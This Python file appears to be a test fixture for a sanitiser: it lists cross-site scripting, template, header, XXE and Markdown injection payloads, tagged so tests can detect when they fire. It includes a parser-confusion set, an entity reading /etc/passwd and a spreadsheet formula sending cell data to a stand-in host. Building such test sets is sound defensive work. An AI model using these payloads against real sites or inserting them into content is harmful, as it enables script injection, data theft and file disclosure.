r"""What an attacker would type, gathered by the place where it would come out. Every vector that is a tag carries the
attribute `x-planted` or calls `fired(...)`: a browser that meets either has been handed markup by a stranger.

They travel in blocks of some: what swallows the rest of a page (an open comment, a <textarea>) stands last in its block,
so that it hides none of the others.
"""

from __future__ import annotations

from collections.abc import Iterator

HOOK = "fired"  # the function that a vector calls when it runs
MARK = "x-planted"  # the attribute that only markup of a stranger has
ELSEWHERE = "elsewhere.invalid"  # a host that no page may ask
SUM, PRODUCT = "7919*7907", "62615533"  # what a template that reads strangers' words as its own would compute

#: Elements that run something by themselves, in text.
TAGS = (
    "<script x-planted>fired('script')</script>",
    "<ScRiPt x-planted >fired('case')</sCrIpT >",
    "<scr<script>ipt x-planted>fired('nested')</scr</script>ipt>",
    "<script x-planted src=//elsewhere.invalid/a.js></script>",
    "<img x-planted src=/nothing onerror=fired('img')>",
    "<img/x-planted/src=/nothing/onerror=fired('slash')>",
    "<img x-planted src=/nothing\n\tonerror\n=\nfired('lines')>",
    "<IMG X-PLANTED SRC=`/nothing` ONERROR=fired('upper')>",
    "<img x-planted srcset='https://elsewhere.invalid/p.gif 1x' src=https://elsewhere.invalid/p.gif>",
    "<image x-planted src=/nothing onerror=fired('image')>",
    "<svg x-planted onload=fired('svg')></svg>",
    "<svg x-planted><script>fired('svg script')</script></svg>",
    "<svg x-planted><animate attributeName=x dur=1s onbegin=fired('animate')></svg>",
    "<svg x-planted><a xlink:href='javascript:fired(1)'><text y=20>x</text></a></svg>",
    "<svg x-planted><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg x-planted><foreignObject><iframe srcdoc='<script>parent.fired(1)</script>'></iframe></foreignObject></svg>",
    "<math x-planted href='javascript:fired(1)'><mi>x</mi></math>",
    "<body x-planted onload=fired('body') onpageshow=fired('body')>",
    "<details x-planted open ontoggle=fired('details')><summary>x</summary></details>",
    "<video x-planted src=/nothing onerror=fired('video')></video>",
    "<video x-planted><source src=/nothing onerror=fired('source')></video>",
    "<audio x-planted src=/nothing onerror=fired('audio')></audio>",
    "<input x-planted autofocus onfocus=fired('focus')>",
    "<input x-planted type=image src=/nothing onerror=fired('input')>",
    "<select x-planted autofocus onfocus=fired('select')></select>",
    "<a x-planted tabindex=1 autofocus onfocus=fired('a')>x</a>",
    "<any x-planted contenteditable autofocus onfocus=fired('any')>x</any>",
    "<marquee x-planted onstart=fired('marquee')>x</marquee>",
    "<iframe x-planted srcdoc=\"<script>parent.fired('srcdoc')</script>\"></iframe>",
    "<iframe x-planted src='javascript:parent.fired(1)'></iframe>",
    "<object x-planted data='data:text/html,<script>parent.fired(1)</script>'></object>",
    "<embed x-planted src='https://elsewhere.invalid/e.swf'>",
    "<link x-planted rel=stylesheet href=//elsewhere.invalid/x.css>",
    "<meta x-planted http-equiv=refresh content='0;url=https://elsewhere.invalid/'>",
    "<base x-planted href=https://elsewhere.invalid/>",
    "<form x-planted action='javascript:fired(1)'><button x-planted formaction='javascript:fired(2)'>x</button></form>",
    "<div x-planted style='background:url(https://elsewhere.invalid/b.png);position:fixed;inset:0'>x</div>",
    "<b x-planted style='content-visibility:auto' oncontentvisibilityautostatechange=fired('cv')>x</b>",
    "<div x-planted popover id=xp onbeforetoggle=fired('popover')></div><button popovertarget=xp>x</button>",
)  # fmt: skip

#: Where a value stands in an attribute, in a script, in JSON, in XML, in a header.
CONTEXTS = (
    "\"><img x-planted src=/nothing onerror=fired('double')>",
    "'><img x-planted src=/nothing onerror=fired('single')>",
    '" x-planted autofocus onfocus=fired(1) x="',
    "' x-planted autofocus onfocus=fired(1) x='",
    " x-planted onmouseover=fired('bare') ",
    "` x-planted onfocus=fired('backtick') autofocus `",
    "</script><script x-planted>fired('end of script')</script>",
    "\"}</script><img x-planted src=/nothing onerror=fired('json')>",
    "';fired('quote')//",
    '";fired("double quote")//',
    "\\\";fired('backslash')//",
    "`${fired('template literal')}`",
    "\\u003cscript x-planted\\u003efired('escaped')\\u003c/script\\u003e",
    "\\x3cimg x-planted src=1 onerror=fired(1)\\x3e",
    "\u2028fired('line separator')\u2029",
    f"{{{{ {SUM} }}}} ${{{SUM}}} #{{{SUM}}} <%= {SUM} %> {{% raise %}} {{{{ fired('template') }}}}",
    "%(password_hash)s %s {0.__class__} {config}",
    "]]><script x-planted xmlns='http://www.w3.org/1999/xhtml'>fired('cdata')</script>",
    "<![CDATA[><script x-planted>fired('cdata 2')</script>]]>",
    "<?xml-stylesheet href='javascript:fired(1)'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "line\r\nX-Planted: yes\r\n\r\n<script x-planted>fired('header')</script>",
    "&lt;img x-planted src=/nothing onerror=fired('entities')&gt;",
    "&amp;lt;img x-planted src=/nothing onerror=fired('twice')&amp;gt;",
    "&#60;img x-planted src=/nothing onerror=fired('numbers')&#62;",
    "%3Cimg x-planted src=/nothing onerror=fired('percent')%3E",
    "+ADw-script x-planted+AD4-fired('utf-7')+ADw-/script+AD4-",
    "\uff1cscript x-planted\uff1efired('wide')\uff1c/script\uff1e",
    "\ufe64img x-planted src=1 onerror=fired('small')\ufe65",
    "<\u017fcript x-planted>fired('long s')</\u017fcript>",
    "<svg x-planted \u0130nload=fired('dotted') onload\u00a0=fired('space')>x</svg>",
    "<scr\u200bipt x-planted>fired('zero width')</scr\u200bipt>",
    "<scr\x00ipt x-planted>fired('nul')</scr\x00ipt><img\x0cx-planted src=1 onerror=fired('feed')>",
    "=HYPERLINK(\"https://elsewhere.invalid/?\"&A1,\"x\")",
)  # fmt: skip

#: What Markdown would make of it.
MARKDOWN = (
    "[x](javascript:fired(1)) [x](<javascript:fired(2)>) [x](JaVaScRiPt:fired(3))",
    "[x](javascript&colon;fired(1)) [x](java&#10;script:fired(2)) [x](&#x6A;avascript:fired(3))",
    "[x](\x01javascript:fired(1)) [x](java\tscript:fired(2)) [x](vbscript:fired(3)) [x](\\javascript:fired(4))",
    "[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==) [x](//elsewhere.invalid)",
    "[x](https://x.example/\"x-planted=\"1\"onmouseover=\"fired(1)) <https://x.example/\"onclick=fired(1)>",
    "[x](/ \"t\" x-planted onclick=fired(1)) [x](/ '\"x-planted onmouseover=fired(1)')",
    "![x\"x-planted onerror=\"fired(1)](/nothing) ![x](/nothing\"onerror=\"fired(1)) ![x](javascript:fired(1))",
    "![x](https://elsewhere.invalid/p.gif) ![x](//elsewhere.invalid/p.gif) ![x](/\\elsewhere.invalid/p.gif)",
    "![x](/\t/elsewhere.invalid/p.gif) ![x](\\\\elsewhere.invalid/p.gif) <img src='/&#9;/elsewhere.invalid/p.gif'>",
    "[![x](/nothing\"onerror=fired(1))](javascript:fired(2)) <javascript:fired(3)> <a href='javascript:fired(4)'>x</a>",
    "<a href=' \x0bjavascript:fired(1)'>x</a> <a href='&#1;javascript:fired(2)'>x</a> <a href='java&Tab;script:fired(3)'>x</a>",
    "\n\n[r]: javascript:fired(1) \"x\"\n[x][r] [^\"><img x-planted src=1 onerror=fired(2)>]: x\n",
    "\n\n# Heading {: x-planted onclick=fired(1) id='\"x-planted' style='color:red' }\n",
    "\n\n```\"><img x-planted src=/nothing onerror=fired('fence')>\n</code></pre><script x-planted>fired(1)</script>\n```\n",
    "`</code><img x-planted src=/nothing onerror=fired('code')>`",
    "\n\n| a | <img x-planted src=/nothing onerror=fired('table')> |\n|---|---|\n| <script x-planted>fired(1)</script> | x |\n\n",
    "www.x.example/\"x-planted=1onmouseover=fired(1) a@x.example\"onclick=fired(1) @\"><img x-planted>",
    "!!! danger \"<img x-planted src=/nothing onerror=fired('admonition')>\"\n    x\n",
)  # fmt: skip

#: Those that change how what follows is read: each the last of its block.
SWALLOWERS = (
    "<noscript><p title=\"</noscript><img x-planted src=/nothing onerror=fired('noscript')>\">",
    "<textarea><p title=\"</textarea><img x-planted src=/nothing onerror=fired('textarea')>\">",
    "<style x-planted><p title=\"</style><img x-planted src=/nothing onerror=fired('style')>\">@import '//elsewhere.invalid';",
    "<title><p title=\"</title><img x-planted src=/nothing onerror=fired('title')>\">",
    "<xmp><p title=\"</xmp><img x-planted src=/nothing onerror=fired('xmp')>\">",
    "<iframe><p title=\"</iframe><img x-planted src=/nothing onerror=fired('iframe')>\">",
    "<noembed><p title=\"</noembed><img x-planted src=/nothing onerror=fired('noembed')>\">",
    "<noframes><p title=\"</noframes><img x-planted src=/nothing onerror=fired('noframes')>\">",
    "<template x-planted><img x-planted src=/nothing onerror=fired('template')></template><template shadowrootmode=open>",
    "<select><option><style></option></select><img x-planted src=/nothing onerror=fired('option')></style>",
    "<math x-planted><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img x-planted src=1 onerror=fired(1)&gt;\">",
    "<svg x-planted></p><style><a id=\"</style><img x-planted src=/nothing onerror=fired('svg style')>\">",
    "<form x-planted><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=fired(1) src>\">",
    "<!--><img x-planted src=/nothing onerror=fired('comment')>-->",
    "<!-- --!><img x-planted src=/nothing onerror=fired('bang')> <!--",
    "<!--[if gte IE 4]><script x-planted>fired('conditional')</script><![endif]--> <!--<script>",
    "<plaintext x-planted>",
)  # fmt: skip

EVERY = (*TAGS, *CONTEXTS, *MARKDOWN, *SWALLOWERS)


def blocks() -> list[str]:
    """Every vector once, a swallower at the end of each block; nobody begins like another."""
    rest = [*CONTEXTS, *MARKDOWN, *TAGS]
    count = len(SWALLOWERS)
    return [" ".join([*rest[n::count], last]) for n, last in enumerate(SWALLOWERS)]


def turns(of: list[str]) -> Iterator[str]:
    """The blocks over and over."""
    while True:
        yield from of
